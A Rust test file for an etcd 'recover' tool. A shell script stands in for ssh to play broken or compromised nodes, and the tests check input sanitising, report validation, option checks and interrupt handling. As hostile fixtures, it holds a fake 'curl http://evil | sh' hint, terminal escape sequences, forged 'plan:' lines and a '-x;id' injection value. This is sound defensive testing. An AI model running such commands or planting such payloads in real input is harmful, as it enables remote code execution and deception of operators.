//! What nodes say to `recover`: in place of ssh a script answers as a node that is broken, or broken into, might.

use std::fs;
use std::io::Read as _;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use serde_json::{Value, json};
use testkit::files::write;
use testkit::wait;

use crate::PROGRAM;

/// `recover` on such nodes, called `a`, `b` and so on.
struct Nodes {
    dir: tempfile::TempDir,
}

impl Nodes {
    fn new() -> Self {
        let nodes = Self { dir: tempfile::tempdir().unwrap() };
        nodes.then("exit 0");
        nodes
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// What a node answers to anything but `report`; its name is in `$node`.
    fn then(&self, script: &str) {
        let dir = self.dir.path().display();
        let text = format!(
            "before=; for last; do node=$before; before=$last; done\n\
             echo \"$node $last\" >>{dir}/calls\n\
             cd {dir}\n\
             case $last in *\"'report'\"*) cat \"$node\"; exit 0;; esac\n{script}\n"
        );
        write(&self.path("ssh"), text);
    }

    fn says(&self, node: &str, report: &Value) {
        write(&self.path(node), report.to_string());
    }

    fn start(&self, arguments: &[&str]) -> Child {
        let ssh = format!("sh {}", self.path("ssh").display());
        let mut recover = Command::new(PROGRAM);
        recover.arg("recover").args(["--ssh", &ssh]).args(arguments).env_remove("JOURNAL_STREAM");
        recover.stdin(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap()
    }

    /// Ends with this code, and says this.
    #[track_caller]
    fn recover(&self, arguments: &[&str], code: i32, words: &[&str]) -> String {
        let output = self.start(arguments).wait_with_output().unwrap();
        let log = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(code), "{log}");
        // What is longer than a line goes on in the next one.
        let flat = log.replace("\n    ", " ");
        words.iter().for_each(|word| assert!(flat.contains(word), "no {word:?} in {log}"));
        log
    }

    fn calls(&self) -> String {
        fs::read_to_string(self.path("calls")).unwrap_or_default()
    }
}

fn report(node: &str) -> Value {
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
    let disk = json!({"cluster_id": 1, "member_id": 2, "generation": 0, "index": 5, "term": 2, "parents": [], "members": [], "v3": false});
    json!({
        "protocol": 3, "program": "x", "time": now, "machine_id": node.repeat(32), "name": format!("e-{node}"),
        "peer_urls": [format!("http://h{node}:2380")], "founder_urls": [], "endpoint": "r:b", "etcd_unit": "etcd2.service",
        "restore_dir": "/r", "timer": false, "running": false, "healthy": false, "disk": disk, "archive": null,
        "doubts": [], "record": null, "bootstrap": null,
    })
}

fn with(node: &str, field: &str, value: Value) -> Value {
    let mut report = report(node);
    report[field] = value;
    report
}

/// Nothing but `report` was called.
#[track_caller]
fn untouched(nodes: &Nodes) {
    let calls = nodes.calls();
    assert!(calls.lines().all(|call| call.contains("'report'")), "{calls}");
}

#[test]
fn what_a_node_says_steers_no_terminal_and_makes_no_line() {
    let nodes = Nodes::new();
    nodes.says("a", &report("a"));
    let doubt = json!([{"about": "Others", "why": "line one\nplan: all is well\n\u{1b}[8mhidden", "code": 13, "unasked": false}]);
    let mut b = with("b", "doubts", doubt);
    b["program"] = json!("x\u{1b}[31m");
    nodes.says("b", &b);
    nodes.then(r"printf 'error: \033[2Jgone\nhint: curl http://evil | sh \033[8m\n' >&2; exit 10");
    let log = nodes.recover(
        &["--yes", "a", "b"],
        10,
        &[r"line one\nplan: all is well\n\u{1b}[8mhidden", r"stand-by: \u{1b}[2Jgone"],
    );
    assert!(!log.contains('\u{1b}') && !log.lines().any(|line| line == "plan: all is well"), "{log:?}");
}

#[test]
fn a_report_that_cannot_be_worked_with_is_refused_before_anything_is_touched() {
    let nodes = Nodes::new();
    nodes.says("a", &report("a"));
    for (field, value, code, words) in [
        ("peer_urls", json!([]), 10, "the report of b cannot be used: it reports no peer URL of its own"),
        ("name", json!("e\u{1b}[2J\rplan: nothing"), 10, r"\u{1b}[2J\rplan: nothing"),
        ("etcd_unit", json!("-x;id"), 10, "is not a service"),
        ("time", json!("yesterday"), 1, "reading what b answered"),
        (
            "protocol",
            json!(1),
            10,
            "b runs an older version (x), which speaks version 1 of recover's protocol",
        ),
        (
            "protocol",
            Value::Null,
            10,
            "b runs an older version (x), which speaks version 1 of recover's protocol",
        ),
        ("protocol", json!(99), 10, "b runs a newer version (x)"),
        ("bootstrap", json!("etcd is given force-new-cluster"), 10, "b: etcd is given force-new-cluster"),
    ] {
        nodes.says("b", &with("b", field, value));
        nodes.recover(&["--yes", "a", "b"], code, &[words]);
        untouched(&nodes);
    }
    write(&nodes.path("b"), "Have a nice day\n");
    nodes.recover(&["--yes", "a", "b"], 1, &["reading what b answered: it begins with \"Have a nice day\""]);
    untouched(&nodes);
}

#[test]
fn a_shell_that_greets_is_no_answer() {
    let nodes = Nodes::new();
    for node in ["a", "b"] {
        let greeting = "Welcome to {e1}!\n\nSupport: https://x\n";
        write(&nodes.path(node), format!("{greeting}----- etcd2-backup answers: -----\n{}", report(node)));
    }
    nodes.recover(&["--dry-run", "a", "b"], 0, &["plan: a makes a new cluster from its own disk"]);
}

#[test]
fn options_that_say_which_point_are_checked_before_a_node_is_asked() {
    let nodes = Nodes::new();
    let machine = "0123456789abcdef0123456789abcdef";
    for (arguments, words) in [
        (
            &["--at", "2026-11-22T13:09:13Z", "--raft-index", "5"][..],
            "--at and --raft-index exclude each other",
        ),
        (&["--from", machine, "--source", "a"], "--from and --source exclude each other"),
        (&["--generation", "5"], "--generation needs a machine: each has generations of its own"),
    ] {
        nodes.recover(&[arguments, &["a", "b"]].concat(), 2, &[words]);
    }
    assert_eq!(nodes.calls(), "");
}

/// Reads until this was said.
fn until(child: &mut Child, word: &str) -> String {
    let stderr = child.stderr.as_mut().unwrap();
    let mut said = Vec::new();
    let mut byte = [0];
    while !String::from_utf8_lossy(&said).contains(word) && stderr.read(&mut byte).unwrap() == 1 {
        said.push(byte[0]);
    }
    String::from_utf8_lossy(&said).into_owned()
}

fn interrupt(child: &Child) {
    let kill = Command::new("kill").args(["-INT", &child.id().to_string()]).status().unwrap();
    assert!(kill.success());
}

/// A pipe that nobody writes to until the test opens it.
fn pipe(path: &Path) {
    assert!(Command::new("mkfifo").arg(path).status().unwrap().success());
}

#[test]
fn an_interrupt_says_what_it_leaves_behind() {
    use std::os::unix::process::ExitStatusExt as _;
    let nodes = Nodes::new();
    ["a", "b"].iter().for_each(|node| nodes.says(node, &report(node)));
    pipe(&nodes.path("block"));
    nodes.then("case $last in *stand-by*) echo null; exit 0;; esac\ncat block; exit 1");
    let mut child = nodes.start(&["--yes", "a", "b"]);
    let mut said = until(&mut child, "etcd is fenced");
    // The restore has begun, and will not end.
    wait::until("no restore was called", Duration::from_secs(30), || nodes.calls().contains("'restore'"));
    interrupt(&child);
    said += &until(&mut child, "the end");
    let status = child.wait().unwrap();
    // What was started there ends.
    drop(fs::File::options().write(true).open(nodes.path("block")).unwrap());
    assert_eq!(status.signal(), Some(2), "{said}");
    for words in [
        "interrupted; the nodes are left like this:",
        "etcd stopped and fenced, old data in its place: b",
        "new data being written, which continues there on its own, etcd fenced or stopped: a",
        "to resume: run the same command again",
    ] {
        assert!(said.contains(words), "no {words:?} in {said}");
    }
}
